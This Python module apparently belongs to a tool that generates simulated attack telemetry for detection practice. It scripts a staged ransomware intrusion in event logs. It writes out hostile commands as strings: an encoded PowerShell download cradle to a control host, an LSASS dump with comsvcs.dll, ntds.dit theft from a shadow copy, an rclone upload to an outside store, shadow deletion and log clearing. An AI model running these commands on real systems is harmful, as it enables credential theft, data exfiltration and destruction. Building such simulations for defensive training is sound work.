"""What comes before the ransom note: a document, a beacon, passwords, the domain, the data."""

from __future__ import annotations

from typing import TYPE_CHECKING

from trailhound.simulate.clock import HOUR, MINUTE, SECOND
from trailhound.simulate.company import (
    DC,
    FILES,
    Account,
    account_of,
    admin_account,
)
from trailhound.simulate.life.programs import OFFICE, SERVICES
from trailhound.simulate.life.servers import POWERSHELL
from trailhound.simulate.names import DOMAIN_SID
from trailhound.simulate.products.mail_log import Letter
from trailhound.simulate.products.windows_processes import encoded
from trailhound.simulate.products.zeek import AGENT_JA3, Flow, Request

if TYPE_CHECKING:
    from datetime import date

    from trailhound.simulate.company import (
        Host,
        Person,
    )
    from trailhound.simulate.products.windows_processes import Process
    from trailhound.simulate.stories.stage import Stage

CMD = r"C:\Windows\System32\cmd.exe"
BEACON_EVERY = MINUTE
GIGABYTE = 1_000_000_000
BACK_DOOR = Account("helpdesk-tmp", f"{DOMAIN_SID}-7777")


def play(stage: Stage) -> None:
    """Play the story: foothold and spread on one day, theft and destruction in the night."""
    day = stage.day(1)
    victim = stage.victim("SAL", day)
    administrator = admin_account(stage.world.company.administrators[-1])
    deliver(stage, victim, stage.at(day, 9, 48))
    shell = foothold(stage, victim, stage.at(day, 10, 4))
    beacon(stage, victim, stage.at(day, 10, 6), hours=7)
    steal_passwords(stage, victim, stage.at(day, 11, 20), shell)
    spread(stage, victim, stage.at(day, 13, 5), administrator)
    stay(stage, stage.at(day, 13, 12), administrator)
    take_domain(stage, victim, stage.at(day, 13, 20), administrator)
    end(stage, day, administrator)


def deliver(stage: Stage, victim: Person, at: int) -> None:
    """A letter with a document in it."""
    intruder = stage.intruder
    step = stage.step(
        at,
        "T1566.001",
        "a letter with a macro document arrives",
        users=(victim.mail,),
        addresses=(intruder.address,),
    )
    client = (f"mail.{intruder.domain}", intruder.address)
    letter = Letter(
        f"orders@{intruder.domain}",
        (victim.mail,),
        client,
        f"order-4471@{intruder.domain}",
        388_412,
    )
    stage.world.mail.deliver(at - 300_000, letter, step=step)


def foothold(stage: Stage, victim: Person, at: int, document: str = "Order_4471.docm") -> Process:
    """Word starts a hidden, encoded PowerShell, which fetches the next stage and stays."""
    windows, user = stage.world.windows, account_of(victim)
    host = stage.world.company.computer(victim)
    address = f"http://{stage.intruder.control_name}/u.ps1"
    script = f"IEX (New-Object Net.WebClient).DownloadString('{address}')"
    outlook = windows.root(host, f"{OFFICE}OUTLOOK.EXE", user)
    cache = f"C:\\Users\\{user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache"
    path = f"{cache}\\Content.Outlook\\8F2A\\{document}"
    word = windows.start(
        at - 20 * SECOND, host, f'"{OFFICE}WINWORD.EXE" /n "{path}" /o ""', parent=outlook
    )
    where = {"hosts": (host.name,), "users": (user.name,)}
    run = stage.step(at, "T1059.001", "Word starts a hidden, encoded PowerShell", **where)
    command = f'"{POWERSHELL}" -nop -w hidden -ep bypass -enc {encoded(script)}'
    shell = windows.start(at, host, command, parent=word, step=run)
    block = stage.step(
        at + SECOND, "T1105", "the script that PowerShell compiled downloads another", **where
    )
    windows.script(at + SECOND, host, user, script, step=block)
    _fetch(stage, host, at + 2 * SECOND, shell)
    program = f"C:\\Users\\{user.name}\\AppData\\Roaming\\TeamsHelper.exe"
    windows.create_file(at + 6 * SECOND, host, shell, program)
    stays = stage.step(
        at + 7 * SECOND, "T1547.001", "a Run key starts the program at every logon", **where
    )
    key = f"HKU\\{user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\TeamsHelper"
    windows.set_value(at + 7 * SECOND, host, shell, (key, program), step=stays)
    return shell


def _fetch(stage: Stage, host: Host, at: int, shell: Process) -> None:
    world, windows, intruder = stage.world, stage.world.windows, stage.intruder
    windows.resolve(at - SECOND, host, shell, intruder.control_name, intruder.control)
    windows.connect(at, host, shell, (intruder.control, 80), name=intruder.control_name)
    world.zeek.lookup(
        at - SECOND, host.address, DC.address, intruder.control_name, (intruder.control,)
    )
    fetched = stage.step(
        at,
        "T1105",
        f"a script is fetched from {intruder.control_name}",
        hosts=(host.name,),
        addresses=(host.address, intruder.control),
    )
    flow = Flow(host.address, intruder.control, 80, SECOND, 180, 214_000)
    page = Request(intruder.control_name, "/u.ps1", "-", "text/plain", "u.ps1")
    world.zeek.request(at, flow, page, step=fetched)


def beacon(stage: Stage, victim: Person, at: int, *, hours: int) -> None:
    """The program calls home every minute, with a little jitter."""
    world, intruder = stage.world, stage.intruder
    host = world.company.computer(victim)
    random = stage.chance("beacon")
    step = stage.step(
        at,
        "T1071.001",
        f"a beacon to {intruder.control_name} every minute",
        hosts=(host.name,),
        addresses=(host.address, intruder.control),
    )
    for n, moment in enumerate(range(at, at + hours * HOUR, BEACON_EVERY)):
        jittered = moment + random.randrange(3 * SECOND)
        flow = Flow(
            host.address, intruder.control, 443, SECOND // 3, 610, 390 + random.randrange(40)
        )
        world.zeek.tls(
            jittered, flow, intruder.control_name, ja3=AGENT_JA3, step=step if n == 0 else None
        )


def steal_passwords(stage: Stage, victim: Person, at: int, shell: Process) -> None:
    """Look around, then dump the memory of the process that knows passwords."""
    windows, host = stage.world.windows, stage.world.company.computer(victim)
    where = {"hosts": (host.name,), "users": (victim.account,)}
    look = stage.step(at, "T1069.002", "who am I, who is a domain administrator", **where)
    commands = (
        "whoami.exe /all",
        'net.exe group "Domain Admins" /domain',
        "nltest.exe /dclist:corp",
    )
    for n, command in enumerate(commands):
        text = f"C:\\Windows\\system32\\{command}"
        windows.start(at + n * 9 * SECOND, host, text, parent=shell, step=look if n == 1 else None)
    dump = at + 4 * MINUTE
    step = stage.step(dump, "T1003.001", "the memory of LSASS is dumped with comsvcs.dll", **where)
    target = r"C:\Windows\Temp\d.dmp"
    system = r"C:\Windows\System32"
    command = f"{system}\\rundll32.exe {system}\\comsvcs.dll, MiniDump 712 {target} full"
    tool = windows.start(dump, host, command, parent=shell, step=step)
    lsass = windows.root(host, r"C:\Windows\system32\lsass.exe")
    opened = stage.step(
        dump + SECOND, "T1003.001", "rundll32 opens LSASS with full access", **where
    )
    windows.open_process(dump + SECOND, host, tool, lsass, access="0x1fffff", step=opened)
    windows.create_file(dump + 2 * SECOND, host, tool, target)


def spread(stage: Stage, victim: Person, at: int, administrator: Account) -> None:
    """PsExec with the administrator's stolen password, from a salesperson's computer."""
    windows, host = stage.world.windows, stage.world.company.computer(victim)
    where = {"hosts": (FILES.name, host.name), "users": (administrator.name,)}
    step = stage.step(
        at, "T1021.002", "an administrator's account comes from a wrong computer", **where
    )
    windows.ticket(at - SECOND, administrator, host.address, FILES)
    windows.logon(at, FILES, administrator, 3, source=host.address, privileged=True, step=step)
    windows.share(
        at + SECOND,
        FILES,
        administrator,
        host.address,
        share=("ADMIN$", "C:\\Windows"),
        files=("PSEXESVC.exe",),
        writing=True,
    )
    service = stage.step(
        at + 2 * SECOND, "T1569.002", "PsExec's service is installed on the file server", **where
    )
    windows.install_service(
        at + 2 * SECOND,
        FILES,
        "PSEXESVC",
        "%SystemRoot%\\PSEXESVC.exe",
        by=administrator,
        step=service,
    )
    parent = windows.root(FILES, SERVICES)
    remote = windows.start(at + 3 * SECOND, FILES, r"C:\Windows\PSEXESVC.exe", parent=parent)
    windows.start(at + 4 * SECOND, FILES, f"{CMD} /c whoami & net view \\\\DC01", parent=remote)
    flow = Flow(
        host.address, FILES.address, 445, 40 * SECOND, 900_000, 40_000, service="gssapi,smb,dce_rpc"
    )
    stage.world.zeek.flow(at - 2000, flow)


def stay(stage: Stage, at: int, administrator: Account) -> None:
    """A task starts the program on the file server every day, as SYSTEM."""
    step = stage.step(
        at,
        "T1053.005",
        "a scheduled task starts a program from a public folder",
        hosts=(FILES.name,),
        users=(administrator.name,),
    )
    command = r"C:\Users\Public\sync.exe -s"
    stage.world.windows.task(at, FILES, administrator, r"\Sync Center Update", command, step=step)


def take_domain(stage: Stage, victim: Person, at: int, administrator: Account) -> None:
    """Over WMI to the domain controller: copy all passwords, make an own administrator."""
    windows, host = stage.world.windows, stage.world.company.computer(victim)
    where = {"hosts": (DC.name,), "users": (administrator.name,)}
    windows.logon(at - SECOND, DC, administrator, 3, source=host.address, privileged=True)
    wmi = windows.root(DC, r"C:\Windows\System32\wbem\WmiPrvSE.exe")
    remote = stage.step(at, "T1047", "a command is run on the domain controller over WMI", **where)
    command = f"{CMD} /c vssadmin create shadow /for=C: > C:\\Windows\\Temp\\s.txt"
    shell = windows.start(at, DC, command, parent=wmi, user=administrator, step=remote)
    windows.start(
        at + SECOND, DC, "C:\\Windows\\system32\\vssadmin.exe create shadow /for=C:", parent=shell
    )
    copy = at + MINUTE
    step = stage.step(
        copy, "T1003.003", "the domain's password database is copied from a shadow", **where
    )
    source = r"\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\NTDS\ntds.dit"
    text = f"{CMD} /c copy {source} C:\\Windows\\Temp\\n.dit"
    windows.start(copy, DC, text, parent=wmi, user=administrator, step=step)
    hive = f"{CMD} /c reg save HKLM\\SYSTEM C:\\Windows\\Temp\\s.hiv"
    windows.start(copy + 20 * SECOND, DC, hive, parent=wmi, user=administrator)
    made = at + 30 * MINUTE
    both = {"hosts": (DC.name,), "users": (administrator.name, BACK_DOOR.name)}
    create = stage.step(made, "T1136.002", "a new account is created", **both)
    windows.account(made, 4720, administrator, BACK_DOOR, step=create)
    join = stage.step(
        made + 20 * SECOND, "T1098.007", "the new account becomes a domain administrator", **both
    )
    windows.join(made + 20 * SECOND, administrator, BACK_DOOR, ("Domain Admins", 512), step=join)


def end(stage: Stage, day: date, administrator: Account) -> None:
    """In the night: archives, upload, no way back."""
    exfiltrate(stage, FILES, stage.night_after(day, 2, 30), administrator)
    destroy(stage, stage.night_after(day, 4, 10), administrator)


def exfiltrate(stage: Stage, host: Host, at: int, user: Account) -> None:
    """Pack the shares with a password and send them to somebody's storage."""
    world, intruder = stage.world, stage.intruder
    windows = world.windows
    where = {"hosts": (host.name,), "users": (user.name,)}
    windows.logon(at - MINUTE, host, user, 10, source="10.0.0.10", privileged=True)
    shell = windows.root(host, CMD, user)
    pack = stage.step(at, "T1560.001", "the shares are packed with a password", **where)
    archive = r"C:\ProgramData\fin.7z"
    command = f"C:\\ProgramData\\7z.exe a -mx1 -mhe -pL0ckme! -v2g {archive} "
    command += "D:\\Shares\\Finance D:\\Shares\\HR"
    tool = windows.start(at, host, command, parent=shell, step=pack)
    windows.create_file(at + 5 * SECOND, host, tool, archive)
    moment = at + 25 * MINUTE
    send = stage.step(moment, "T1567.002", "rclone uploads the archive", **where)
    command = "C:\\ProgramData\\rclone.exe copy C:\\ProgramData\\ store:drop "
    command += "--include fin.7z* --transfers 8 -q"
    upload = windows.start(moment, host, command, parent=shell, step=send)
    windows.connect(moment + SECOND, host, upload, (intruder.storage, 443))
    flows = stage.step(
        moment + 2 * SECOND,
        "T1041",
        "nine gigabytes leave the company in the night",
        hosts=(host.name,),
        addresses=(host.address, intruder.storage),
    )
    flow = Flow(host.address, intruder.storage, 443, 8 * MINUTE, 9 * GIGABYTE, 4_000_000)
    world.zeek.tls(moment + 2 * SECOND, flow, "store.drop-zone.example", ja3=AGENT_JA3, step=flows)


def destroy(stage: Stage, at: int, user: Account) -> None:
    """Delete what would help to recover, then the log."""
    windows = stage.world.windows
    where = {"hosts": (FILES.name,), "users": (user.name,)}
    shell = windows.root(FILES, CMD, user)
    step = stage.step(at, "T1490", "all shadow copies are deleted", **where)
    command = "C:\\Windows\\system32\\vssadmin.exe delete shadows /all /quiet"
    windows.start(at, FILES, command, parent=shell, step=step)
    repair = "C:\\Windows\\system32\\bcdedit.exe /set {default} recoveryenabled No"
    windows.start(at + 9 * SECOND, FILES, repair, parent=shell)
    clear = "C:\\Windows\\system32\\wevtutil.exe cl Security"
    windows.start(at + 30 * SECOND, FILES, clear, parent=shell)
    gone = stage.step(at + 31 * SECOND, "T1070.001", "the Security log is cleared", **where)
    windows.clear_log(at + 31 * SECOND, FILES, user, step=gone)
